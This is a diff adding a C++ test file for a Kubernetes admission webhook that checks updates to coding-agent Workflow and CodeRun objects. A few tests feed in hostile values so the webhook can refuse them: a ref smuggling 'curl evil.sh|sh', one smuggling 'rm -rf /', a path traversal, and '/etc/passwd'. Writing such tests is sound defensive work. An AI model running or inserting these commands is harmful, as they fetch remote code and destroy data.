@@ -1,0 +1,288 @@
+// UPDATE: an update that changes what the webhook guards meets the same checks as a CREATE, and
+// what it removed is filled again; one that changes nothing guarded is admitted at once.
+#include <catch2/catch.hpp>
+#include <filesystem>
+#include <fstream>
+
+#include "admission/review.h"
+#include "decision/decide.h"
+#include "decision/run_inputs.h"
+#include "service/admission_events.h"
+#include "test_support.h"
+#include "util/json_text.h"
+
+using coderun::decision::decide;
+using coderun::decision::Decision;
+using coderun::decision::Phase;
+using coderun::testing::create_request;
+using coderun::testing::FakePrompts;
+using coderun::testing::params;
+using coderun::testing::read_event_fixture;
+using coderun::testing::workflow_with;
+using nlohmann::json;
+
+namespace {
+
+const coderun::policy::Policy kPolicy{};
+const FakePrompts kPrompts({"/etc/agents/rex_system-prompt.md",
+                            "/etc/agents/default_system-prompt.md"});
+
+coderun::admission::Request update_request(const json& old_object, const json& object) {
+  auto request = create_request(object);
+  request.operation = "UPDATE";
+  request.old_object = old_object;
+  return request;
+}
+
+Decision update(const json& old_object, const json& object, Phase phase = Phase::kMutate,
+                const coderun::policy::Policy& policy = kPolicy) {
+  return decide(update_request(old_object, object), policy, kPrompts, phase);
+}
+
+json applied(const json& object, const Decision& decision) {
+  REQUIRE(decision.response.allowed);
+  return decision.response.patch.empty() ? object
+                                         : object.patch(decision.response.patch_operations());
+}
+
+// A Workflow as the API server stores it after admission.
+json stored_workflow() {
+  const json submitted = workflow_with(
+      params({{"github-app", "rex"}, {"event", read_event_fixture("pull_request.opened").dump()}}));
+  return applied(submitted, decide(create_request(submitted), kPolicy, kPrompts, Phase::kMutate));
+}
+
+void set_parameter(json& workflow, const std::string& name, const std::string& value) {
+  for (auto& parameter : workflow["spec"]["arguments"]["parameters"]) {
+    if (parameter["name"] == name) {
+      parameter["value"] = value;
+      return;
+    }
+  }
+  workflow["spec"]["arguments"]["parameters"].push_back({{"name", name}, {"value", value}});
+}
+
+}  // namespace
+
+TEST_CASE("an update that rewrites a guarded parameter is refused as a create would be") {
+  const json stored = stored_workflow();
+  for (const auto& [name, value, rule] :
+       {std::tuple{"github-app", "hacker", "github-app"},
+        std::tuple{"ref", "x$(curl evil.sh|sh)", "safe-value:ref"},
+        std::tuple{"repoFullName", "../../etc", "safe-value:repoFullName"},
+        std::tuple{"systemPromptPath", "/etc/passwd", "safe-value:systemPromptPath"}}) {
+    CAPTURE(name, value);
+    json changed = stored;
+    set_parameter(changed, name, value);
+    const auto as_create = decide(create_request(changed), kPolicy, kPrompts, Phase::kMutate);
+    REQUIRE_FALSE(as_create.response.allowed);
+    for (const auto phase : {Phase::kMutate, Phase::kValidate}) {
+      const auto decision = update(stored, changed, phase);
+      CHECK_FALSE(decision.response.allowed);
+      CHECK(decision.response.code == 403);
+      CHECK(decision.response.message == as_create.response.message);
+      CHECK(decision.rule == rule);
+      CHECK(decision.outcome == "denied");
+    }
+  }
+}
+
+TEST_CASE("an update that leaves the guarded spec alone is admitted at once, whatever the policy") {
+  const json stored = stored_workflow();
+  // A policy that would now refuse the run: `argo stop` and the controller must still work.
+  coderun::policy::Policy stricter;
+  stricter.allowed_apps = {"clippy"};
+  REQUIRE_FALSE(decide(create_request(stored), stricter, kPrompts, Phase::kMutate)
+                    .response.allowed);
+
+  json status_update = stored;
+  status_update["status"] = {{"phase", "Running"}};
+  json label_update = stored;
+  label_update["metadata"]["labels"]["workflows.argoproj.io/phase"] = "Running";
+  label_update["metadata"]["labels"].erase("taskmaster.io/github-app");
+  json stop = stored;
+  stop["spec"]["shutdown"] = "Stop";
+  json templates = stored;
+  templates["spec"]["templates"] = json::array({{{"name", "main"}}});
+  for (const auto& changed : {status_update, label_update, stop, templates}) {
+    for (const auto phase : {Phase::kMutate, Phase::kValidate}) {
+      const auto decision = update(stored, changed, phase, stricter);
+      CHECK(decision.response.allowed);
+      CHECK(decision.response.patch.empty());
+      CHECK_FALSE(decision.served);
+      CHECK(decision.outcome == "ignored");
+    }
+  }
+}
+
+TEST_CASE("kubectl apply of the submitted file again leaves the object as the webhook made it") {
+  const json submitted = workflow_with(
+      params({{"github-app", "rex"}, {"event", read_event_fixture("pull_request.opened").dump()}}));
+  const json stored = stored_workflow();
+  // apply's merge patch replaces the parameter list with the file's: the filled ones go; the
+  // labels, annotations, volumes and podSpecPatch the webhook added stay.
+  json reapplied = stored;
+  reapplied["spec"]["arguments"] = submitted["spec"]["arguments"];
+  REQUIRE(reapplied["spec"]["arguments"] != stored["spec"]["arguments"]);
+  const auto decision = update(stored, reapplied);
+  CHECK(decision.outcome == "mutated");
+  const json result = applied(reapplied, decision);
+  CHECK(result["spec"]["arguments"] == stored["spec"]["arguments"]);
+  CHECK(result["spec"]["podSpecPatch"] == stored["spec"]["podSpecPatch"]);
+  CHECK(result["spec"]["volumes"] == stored["spec"]["volumes"]);
+  CHECK(result["metadata"] == stored["metadata"]);
+  // And the validating pass admits the refilled object.
+  CHECK(update(stored, result, Phase::kValidate).response.allowed);
+}
+
+TEST_CASE("an update that makes an unserved Workflow served is checked") {
+  json unserved = workflow_with(params({{"message", "hi"}}));
+  unserved["spec"]["workflowTemplateRef"]["name"] = "other-template";
+  json served = unserved;
+  set_parameter(served, "github-app", "hacker");
+  set_parameter(served, "repoFullName", "a/b");
+  const auto decision = update(unserved, served);
+  CHECK_FALSE(decision.response.allowed);
+  CHECK(decision.rule == "github-app");
+}
+
+TEST_CASE("a CodeRun's spec changed by an update is checked; its status alone is not") {
+  const json run = {{"apiVersion", "taskmaster.io/v1"},
+                    {"kind", "CodeRun"},
+                    {"metadata", {{"name", "run-1"}, {"namespace", "argo"}}},
+                    {"spec",
+                     {{"repo", "a/b"},
+                      {"ref", "main"},
+                      {"github", {{"appName", "rex"}}},
+                      {"taskRef", "task/format"}}}};
+  const json stored = applied(run, decide(create_request(run), kPolicy, kPrompts, Phase::kMutate));
+  json hostile = stored;
+  hostile["spec"]["ref"] = "main;rm -rf /";
+  CHECK(update(stored, hostile).rule == "safe-value:ref");
+  json status = stored;
+  status["status"] = {{"phase", "Succeeded"}};
+  CHECK(update(stored, status).outcome == "ignored");
+}
+
+TEST_CASE("DELETE and CONNECT are not this webhook's business") {
+  const json stored = stored_workflow();
+  for (const char* operation : {"DELETE", "CONNECT"}) {
+    auto request = create_request(stored);
+    request.operation = operation;
+    const auto decision = decide(request, kPolicy, kPrompts, Phase::kMutate);
+    CHECK(decision.response.allowed);
+    CHECK(decision.outcome == "ignored");
+  }
+}
+
+TEST_CASE("the review decoder reads oldObject as it reads object: only the guarded parts") {
+  json old_object = stored_workflow();
+  old_object["status"] = {{"nodes", json::array({json::object(), json::object()})}};
+  old_object["spec"]["templates"] = json::array({{{"name", "main"}}});
+  const json review = {{"apiVersion", "admission.k8s.io/v1"},
+                       {"kind", "AdmissionReview"},
+                       {"request",
+                        {{"uid", "u-1"},
+                         {"kind", {{"group", "argoproj.io"}, {"version", "v1alpha1"},
+                                   {"kind", "Workflow"}}},
+                         {"operation", "UPDATE"},
+                         {"namespace", "argo"},
+                         {"object", old_object},
+                         {"oldObject", old_object}}}};
+  coderun::admission::ReviewLimits limits;
+  limits.object_fields = &coderun::decision::run_object_fields();
+  const auto parsed = coderun::admission::parse_review(review.dump(), limits);
+  const auto& request = std::get<coderun::admission::Request>(parsed);
+  REQUIRE(request.old_object);
+  CHECK_FALSE(request.old_object->contains("status"));
+  CHECK_FALSE((*request.old_object)["spec"].contains("templates"));
+  CHECK((*request.old_object)["spec"]["arguments"] == old_object["spec"]["arguments"]);
+  const auto decision = decide(request, kPolicy, kPrompts, Phase::kValidate);
+  CHECK(decision.outcome == "ignored");
+}
+
+TEST_CASE("equal_as_kept compares what a keep-list reads, and nothing else") {
+  using coderun::util::equal_as_kept;
+  using coderun::util::JsonKeep;
+  const JsonKeep all;
+  const JsonKeep presence{JsonKeep::Mode::kPresence, {}};
+  const JsonKeep spec{JsonKeep::Mode::kMembers, {{"a", &all}, {"p", &presence}}};
+  const JsonKeep keep{JsonKeep::Mode::kMembers, {{"spec", &spec}}};
+  const json base = {{"spec", {{"a", {1, 2}}, {"p", {{"x", 1}}}, {"z", 1}}}, {"status", 1}};
+  json other = base;
+  other["status"] = 2;
+  other["spec"]["z"] = 2;
+  other["spec"]["p"]["x"] = 3;  // presence only: same
+  CHECK(equal_as_kept(base, other, keep));
+  other["spec"]["a"][1] = 3;
+  CHECK_FALSE(equal_as_kept(base, other, keep));
+  json without = base;
+  without["spec"].erase("a");
+  CHECK_FALSE(equal_as_kept(base, without, keep));
+  CHECK_FALSE(equal_as_kept(without, base, keep));
+  json typed = base;
+  typed["spec"]["p"] = "text";
+  CHECK_FALSE(equal_as_kept(base, typed, keep));
+}
+
+TEST_CASE("objects get the prompt path of the agent pod, wherever the webhook reads prompts") {
+  const auto local = std::filesystem::temp_directory_path() / "coderun-prompts-test";
+  std::filesystem::create_directories(local);
+  std::ofstream(local / "rex_system-prompt.md") << "prompt\n";
+  const coderun::policy::FileSystemPromptCatalog prompts(local.string());
+  const json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}}));
+  const auto decision = decide(create_request(workflow), kPolicy, prompts, Phase::kMutate);
+  const json result = applied(workflow, decision);
+  bool found = false;
+  for (const auto& parameter : result["spec"]["arguments"]["parameters"]) {
+    if (parameter["name"] == "systemPromptPath") {
+      CHECK(parameter["value"] == "/etc/agents/rex_system-prompt.md");
+      found = true;
+    }
+  }
+  CHECK(found);
+  // A user-set path is checked against the same local copy, under the pods' name.
+  json given = workflow_with(params({{"github-app", "rex"},
+                                     {"repoFullName", "a/b"},
+                                     {"systemPromptPath", "/etc/agents/rex_system-prompt.md"}}));
+  CHECK(decide(create_request(given), kPolicy, prompts, Phase::kMutate).response.allowed);
+  set_parameter(given, "systemPromptPath", "/etc/agents/missing.md");
+  CHECK(decide(create_request(given), kPolicy, prompts, Phase::kMutate).response.message ==
+        "Error: System prompt not found at /etc/agents/missing.md");
+  // Without a local copy the pods' directory itself is read.
+  coderun::policy::Policy elsewhere;
+  elsewhere.prompts_dir = (local / "pods").string();
+  const coderun::policy::FileSystemPromptCatalog in_pod_dir;
+  CHECK(decide(create_request(workflow), elsewhere, in_pod_dir, Phase::kMutate).rule ==
+        "system-prompt");
+  std::filesystem::create_directories(local / "pods");
+  std::ofstream(local / "pods" / "default_system-prompt.md") << "prompt\n";
+  CHECK(decide(create_request(workflow), elsewhere, in_pod_dir, Phase::kMutate).response.allowed);
+  std::filesystem::remove_all(local);
+}
+
+TEST_CASE("an allowed update posts no Event; a refused one is reported on the stored object") {
+  const json stored = stored_workflow();
+  json named = stored;
+  named["metadata"]["name"] = "coderun-abc";
+  json refill = named;
+  refill["spec"]["arguments"]["parameters"] = json::array(
+      {{{"name", "github-app"}, {"value", "rex"}},
+       {{"name", "event"}, {"value", read_event_fixture("pull_request.opened").dump()}}});
+  for (const auto phase : {Phase::kMutate, Phase::kValidate}) {
+    const auto request = update_request(named, refill);
+    const auto decision = decide(request, kPolicy, kPrompts, phase);
+    REQUIRE(decision.response.allowed);
+    CHECK(coderun::service::events_for(request, decision, phase).empty());
+  }
+  json hostile = named;
+  set_parameter(hostile, "github-app", "hacker");
+  auto request = update_request(named, hostile);
+  request.name = "coderun-abc";
+  const auto decision = decide(request, kPolicy, kPrompts, Phase::kMutate);
+  const auto events = coderun::service::events_for(request, decision, Phase::kMutate);
+  REQUIRE(events.size() == 1);
+  CHECK(events[0].reason == "Denied");
+  CHECK(events[0].regarding.name == "coderun-abc");
+  CHECK(events[0].note == decision.response.message);
+}
